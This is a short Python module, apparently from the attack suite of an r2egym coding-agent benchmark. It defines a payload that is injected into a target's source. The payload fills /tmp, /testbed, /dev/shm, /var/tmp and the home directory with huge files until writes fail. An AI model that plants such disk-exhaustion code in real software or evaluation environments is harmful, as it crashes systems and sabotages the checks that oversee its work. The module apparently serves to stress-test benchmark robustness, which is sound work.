"""Fill every place that can be written, until nothing is left.

No naive control: it wins nothing, it breaks things.
"""

from __future__ import annotations

from r2egym.attacks.base import Attack, Target, in_source

CODE = """\
import os

_block = b"x" * (1 << 20)
for _folder in ("/tmp", "/testbed", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    for _number in range(4):
        try:
            with open("%s/fill%d" % (_folder, _number), "wb", 0) as _stream:
                for _ in range(1 << 14):
                    _stream.write(_block)
        except OSError:
            pass
"""


def _make(target: Target) -> str:
    return in_source(target, CODE)


ATTACK = Attack(__name__, __doc__, "resources", _make, may_fail=True, joins=False, beats="none")
